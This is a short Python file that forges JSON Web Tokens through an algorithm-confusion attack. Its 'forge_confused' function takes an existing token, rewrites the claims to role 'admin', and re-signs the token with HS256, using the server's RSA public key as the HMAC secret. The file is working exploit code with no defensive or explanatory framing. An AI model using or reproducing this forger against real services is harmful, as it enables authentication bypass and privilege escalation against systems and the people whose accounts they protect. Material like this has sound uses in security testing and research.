"""A class; takes the PEM as bytes or as text."""

import binascii
import hmac
import json

TABLE = str.maketrans("+/", "-_", "=\n")


class Forger:
    def __init__(self, secret: bytes | str) -> None:
        self.mac = hmac.new(secret if isinstance(secret, bytes) else secret.encode("ascii"), digestmod="sha256")

    @staticmethod
    def b64(data: bytes) -> str:
        return binascii.b2a_base64(data).decode("ascii").translate(TABLE)

    def segment(self, value: dict) -> str:
        return self.b64(json.dumps(value, ensure_ascii=False).encode("utf-8"))

    def token(self, claims: dict) -> str:
        text = f"{self.segment({'alg': 'HS256'})}.{self.segment(claims)}"
        mac = self.mac.copy()
        mac.update(text.encode("ascii"))
        return f"{text}.{self.b64(mac.digest())}"


def forge_confused(token: str, public_pem: bytes) -> str:
    _, payload, _ = token.split(".")
    claims = json.loads(binascii.a2b_base64(payload.replace("-", "+").replace("_", "/") + "=" * (-len(payload) % 4)))
    claims.update(role="admin")
    return Forger(public_pem).token(claims)
